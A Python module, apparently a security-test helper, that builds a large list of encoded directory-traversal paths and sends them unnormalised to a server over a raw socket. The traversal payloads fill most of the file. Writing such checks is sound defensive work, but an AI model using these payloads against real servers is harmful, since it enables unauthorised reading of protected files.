"""Every way to spell a path that might lead out of a folder, and a client that sends it as it is spelt."""

import socket
from collections.abc import Iterator, Sequence

TIMEOUT_SECONDS = 20
# Ways to write "one folder up": each is put before the path of a file that nobody may fetch.
UP = (
    *("..", "%2e%2e", "%2E%2E", ".%2e", "%2e.", "%252e%252e", "%25252e%25252e", "..;", "..;x=y", "%2e%2e;", "..%00"),
    *(
        "..%20",
        "..%09",
        "..%0a",
        "..%0d%0a",
        ". .",
        "%c0%ae%c0%ae",
        "%e0%80%ae%e0%80%ae",
        "%uff0e%uff0e",
        "\uff0e\uff0e",
    ),
    *("%ef%bc%8e%ef%bc%8e", "%e2%80%a4%e2%80%a4", "%e2%80%a5", "...", "....", "....//..", "..%3b", "..#", "..?"),
)
# Ways to write a slash.
SLASHES = (
    *("/", "%2f", "%2F", "%5c", "%5C", "\\", "%252f", "%255c", "//", "/./", "%2f%2f", "%c0%af", "%ef%bc%8f"),
    *("%e2%88%95", "%e2%81%84", "\u2215", "/%00/", "/;/", "/%2e/"),
)
# What may be put after a path.
ENDINGS = (
    "",
    "/",
    ".",
    "%2e",
    "%20",
    "%00",
    "%00.jpg",
    ";",
    ";.jpg",
    "?x=.jpg",
    "#.jpg",
    "%23.jpg",
    "/.",
    "/%2e",
    "%0a",
    "::$DATA",
    "~",
)


# Two and three folders up are tried with these alone.
PLAIN_SLASHES = ("/", "%2f", "%5c")


def spellings(prefix: str, file: str, absolute: str, slashes: Sequence[str] = SLASHES) -> Iterator[str]:
    """Targets of requests for `file`, which lies beside or above what the prefix serves, and lies at `absolute`."""
    for up in UP:
        for slash in slashes:
            yield f"{prefix}{up}{slash}{file}"
        for slash in PLAIN_SLASHES:
            yield prefix + f"{up}{slash}" * 2 + file
            yield prefix + f"{up}{slash}" * 3 + file
    folder = prefix.rstrip("/")
    for slash in slashes:
        yield f"{prefix}{file.replace('/', slash)}"
        yield f"{prefix}{slash}{absolute.lstrip('/')}"
        yield f"{folder}{slash}..{slash}{file.replace('/', slash)}"
        yield f"{folder}..{slash}{file}"
    for ending in ENDINGS:
        yield f"{prefix}{file}{ending}"
        yield f"{prefix}../{file}{ending}"
        yield f"{prefix}..%2f{file}{ending}"
    yield f"{prefix}{file}".upper()
    yield f"{prefix.upper()}{file}"
    yield f"{prefix}{absolute}"
    yield f"{prefix}file://{absolute}"
    yield f"{prefix}C:\\{file}"
    yield f"http://elsewhere.example{prefix}..%2f{file}"
    yield prefix + "".join(f"%{byte:02x}" for byte in f"../{file}".encode())
    yield f"/{prefix}../{file}"
    yield f"/./{prefix.lstrip('/')}../{file}"


def ask(host: str, port: int, target: str, *, method: str = "GET", headers: str = "") -> tuple[int, bytes]:
    """Status and whole answer, head included, to a target that no client has tidied up; 0 where the connection ends."""
    with socket.create_connection((host, port), timeout=TIMEOUT_SECONDS) as connection:
        request = f"{method} {target} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n{headers}\r\n"
        connection.sendall(request.encode())
        answer = b""
        try:
            while chunk := connection.recv(65536):
                answer += chunk
        except ConnectionError:
            pass
    status = answer.split(b" ", 2)[1:2]
    return (int(status[0]) if status and status[0].isdigit() else 0), answer
